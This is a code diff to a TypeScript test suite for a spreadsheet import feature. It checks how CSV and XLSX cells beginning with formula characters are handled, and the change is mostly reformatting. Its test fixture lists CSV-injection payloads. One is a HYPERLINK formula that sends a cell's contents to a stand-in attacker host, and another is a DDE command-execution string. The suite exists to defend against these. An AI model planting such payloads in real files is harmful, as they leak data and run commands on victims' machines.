@@ -10,7 +10,13 @@ import { readImport } from '../../playground/import/read-import';
 import { loadedEmulator } from '../helpers/workbook';
 import { text, xlsx } from './xlsx-fixture';
 
-const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1,2)', "'quoted"];
+const HOSTILE = [
+  '=HYPERLINK("http://evil.example/?"&A1,"click")',
+  "+cmd|' /C calc'!A0",
+  '-2+3',
+  '@SUM(1,2)',
+  "'quoted",
+];
 const csvField = (s: string): string => `"${s.replace(/"/g, '""')}"`;
 const csvFile = `Deal,Stage,Value,Next Step\n${HOSTILE.map((h, i) => `${csvField(h)},Proposal,${i === 2 ? '-500' : 100},${i === 0 ? '=1+1' : ''}`).join('\n')}\n`;
 
@@ -40,12 +46,17 @@ test('with "formulas" ticked, a CSV cell starting with = becomes a formula; + - 
   const { values, formulas } = imported(Buffer.from(csvFile), 'deals.csv', true);
   const header = values[0] as unknown[];
   const formulaCells = formulas.flatMap((row, r) => row.flatMap((f, c) => (f ? [[String(header[c]), r, f]] : [])));
-  expect(formulaCells).toEqual([['Deal', 1, HOSTILE[0]], ['Next Step', 1, '=1+1']]);
+  expect(formulaCells).toEqual([
+    ['Deal', 1, HOSTILE[0]],
+    ['Next Step', 1, '=1+1'],
+  ]);
   expect(column(values, 'Deal').slice(1)).toEqual(HOSTILE.slice(1));
 });
 
 test('XLSX text cells starting with = stay text whether or not "formulas" is ticked', () => {
-  const file = xlsx(`<row r="1">${text('A1', 'Deal')}${text('B1', 'Stage')}</row><row r="2">${text('A2', HOSTILE[0] as string)}${text('B2', 'Proposal')}</row>`);
+  const file = xlsx(
+    `<row r="1">${text('A1', 'Deal')}${text('B1', 'Stage')}</row><row r="2">${text('A2', HOSTILE[0] as string)}${text('B2', 'Proposal')}</row>`,
+  );
   for (const formulas of [false, true]) {
     const got = imported(file, 'deals.xlsx', formulas);
     expect(column(got.values, 'Deal')).toEqual([HOSTILE[0]]);
